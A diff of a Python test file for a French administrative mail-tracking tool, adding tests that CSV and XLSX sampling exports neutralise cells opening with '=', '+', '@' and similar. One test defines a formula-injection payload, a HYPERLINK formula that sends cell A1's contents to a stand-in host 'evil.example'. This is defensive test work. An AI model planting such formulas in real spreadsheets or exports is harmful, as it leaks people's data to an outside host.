@@ -124,7 +124,7 @@ def test_cli_sample_records_its_draw_so_its_replies_can_be_controlled(engine, rt
     assert refused.returncode == 1 and "Traceback" not in refused.stderr and "n'a pas reçu de réponse" in refused.stderr
     refused = cli(cfg, "control", answered, "--result", "conforme", "--by", "referent")
     assert refused.returncode == 1 and "aucun échantillon tiré" in refused.stderr
-    drawn = cli(cfg, "sample", "--quarter", "2026-Q3", "--size", "5", "--by", "referent")
+    drawn = cli(cfg, "sample", "--quarter", "2026-Q3", "--size", "5", "--by", "referent", "--json")
     assert drawn.returncode == 0, drawn.stderr
     assert [i["reference"] for i in json.loads(drawn.stdout)] == [answered]
     ok = cli(cfg, "control", answered, "--result", "conforme", "--by", "referent")
@@ -279,3 +279,40 @@ def test_show_prints_the_citizens_text_attachments_and_when_each_event_took_effe
     assert message["attachments"][0]["filename"] == "récépissé.pdf"
     assert shown["events"][0]["effective_at"] == "2026-07-06T09:00:00+02:00"
     assert shown["events"][0]["at"].startswith("2026-12-04")
+
+
+# --------------------------------------------------------------------------
+# Issue 15, low: a text that opens like a formula stays text in CSV and XLSX.
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
+
+
+def test_a_reply_text_opening_like_a_formula_is_text_in_the_control_grid(make_config, tmp_path):
+    from openpyxl import load_workbook
+
+    cfg = make_config([{"name": "qualite", "address": BOX}])
+    first = make_mail(message_id="<f1@example.org>", sender="paul@example.org", to=BOX, subject="@SUM(1+1)",
+                      date=datetime(2026, 7, 6, 9, tzinfo=PARIS))
+    (tmp_path / "in.eml").write_bytes(first)
+    (tmp_path / "sent.eml").write_bytes(reply_to("<f1@example.org>", to="paul@example.org", body=FORMULA + "\n",
+                                                 message_id="<f1r@haute-savoie.gouv.fr>",
+                                                 headers={"Date": "Wed, 08 Jul 2026 09:00:00 +0200"}))
+    assert cli(cfg, "import", str(tmp_path / "in.eml")).returncode == 0
+    assert cli(cfg, "import", "--sent", str(tmp_path / "sent.eml")).returncode == 0
+    grid = tmp_path / "grille.csv"
+    assert cli(cfg, "sample", "--quarter", "2026-Q3", "--by", "r", "--output", str(grid)).returncode == 0
+    cells = [c for line in grid.read_bytes().decode("utf-8-sig").splitlines()[1:] for c in line.split(";")]
+    assert not any(c.lstrip('"').startswith(("=", "+", "@")) for c in cells), cells
+    assert any(c.lstrip('"').startswith("'=HYPERLINK") for c in cells)
+    book = tmp_path / "grille.xlsx"
+    assert cli(cfg, "sample", "--quarter", "2026-Q3", "--by", "r", "--output", str(book)).returncode == 0
+    sheet = load_workbook(book).active
+    texts = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert texts and all(c.data_type == "s" for c in texts)
+
+
+def test_csv_cells_keep_numbers_and_quote_formula_openers():
+    from tracer.reports.exports import text_cell
+
+    assert [text_cell(v) for v in ["=1+1", "+33 4 50", "@SUM(A1)", "-2+3", "\tx", "-1,5", "-3", "12", "Réclamation", 4.5]] == [
+        "'=1+1", "'+33 4 50", "'@SUM(A1)", "'-2+3", "'\tx", "-1,5", "-3", "12", "Réclamation", 4.5]
